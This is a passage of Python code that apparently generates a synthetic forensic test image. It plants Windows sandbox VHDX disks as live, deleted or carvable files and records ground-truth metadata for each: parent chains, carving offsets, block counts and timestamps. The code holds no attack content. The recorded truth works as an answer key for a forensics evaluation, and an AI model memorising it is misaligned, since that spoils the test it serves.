        out.append(planted(path, content, HOST_TIMES[key], "live", None,
                           host_truth(path, content, HOST_TIMES[key], "live", None, **extra)))

    s2_path = storage_path(SANDBOX2_GUID, "sandbox.vhdx")
    data = s2.vhdx.read_bytes()
    truth = disk_truth(s2, SANDBOX2_GUID, "sandbox_disk", "ContainerStorages",
                       "block-level differencing", 2, ["recovered_deleted"], s2_path,
                       template_paths)
    truth["parent_chain"] = parent_chain_truth()
    out.append(planted(s2_path, data, HOST_TIMES["s2"], "deleted", S2_DELETED,
                       host_truth(s2_path, data, HOST_TIMES["s2"], "deleted", S2_DELETED,
                                  **truth)))

    s3_path = storage_path(SANDBOX3_GUID, "sandbox.vhdx")
    data = s3.vhdx.read_bytes()
    truth = disk_truth(s3, SANDBOX3_GUID, "sandbox_disk", "ContainerStorages",
                       "standalone with WCI placeholders", 3, ["carved"], s3_path)
    truth["carving"] = {
        "signature": "vhdxfile", "signature_offset_in_file": 0,
        "note": "the planter must leave every cluster of the file unallocated and unwritten "
                "after the delete; the file starts at a cluster boundary",
        "blocks_present": truth["vhdx"]["allocated_blocks"],
        "blocks_total": truth["vhdx"]["total_blocks"]}
    out.append(planted(s3_path, data, HOST_TIMES["s3"], "carvable", S3_DELETED,
                       host_truth(s3_path, data, HOST_TIMES["s3"], "carvable", S3_DELETED,
                                  **truth)))
    return out


def main() -> None:
    """Build into a directory and print a summary (for trying it by hand)."""
    import argparse
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("workdir", nargs="?")
    args = parser.parse_args()
    workdir = pathlib.Path(args.workdir or tempfile.mkdtemp(prefix="sandtrace-sandbox-"))
    for item in build(workdir / "build"):
        print(f"{item.state:8} {len(item.data):>9} {hashlib.sha256(item.data).hexdigest()[:16]} "
              f"{item.path}")


if __name__ == "__main__":
    main()
